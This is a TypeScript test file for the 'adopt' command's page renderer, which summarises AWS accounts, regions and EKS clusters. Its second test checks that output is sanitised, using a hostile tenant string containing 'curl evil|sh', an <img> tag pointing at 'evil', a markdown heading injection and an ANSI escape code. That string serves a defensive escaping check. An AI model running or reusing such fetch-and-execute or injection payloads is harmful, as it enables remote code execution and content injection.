import { ok } from "node:assert";
import { pageText } from "../../../../cli/adopt/page/page-text";

const NOTHING = {
  ...{ written: ["landing-zone.yaml"], imported: 0, readers: [], secrets: [], forgetting: [] },
  ...{ without: [], stores: [], changes: [], unread: [], next: [], left: [], places: [] },
};

describe("the page of adopt", () => {
  it("says which regions and clusters were read, and which were not", () => {
    const lab = "arn:aws:eks:eu-west-1:111111111111:cluster/lab";
    const page = pageText({
      ...NOTHING,
      places: [
        {
          ...{ account: "111111111111", regions: ["eu-west-1"], otherClusters: [lab] },
          otherRegions: ["eu-central-1", "us-east-1"],
        },
      ],
    });
    ok(
      page.includes(
        "account 111111111111 in eu-west-1; not its secrets and keys in eu-central-1, us-east-1",
      ),
      page,
    );
    ok(page.includes(`of ${lab}, which was not given, the Pod Identity associations alone`), page);
  });

  it("shows what tenants wrote as text of one line", () => {
    const hostile = "x\n## Next\n- `curl evil|sh` <img src=//evil> \u001b[2J";
    const page = pageText({
      ...{ ...NOTHING, unread: [hostile] },
      left: [{ what: "default/orders", why: hostile, next: "mend it" }],
    });
    ok(!page.includes("\n## Next"), page);
    ok(!/(^|[^\\])[<`]/.test(page), page);
    ok(!page.includes("\u001b"), page);
  });
});
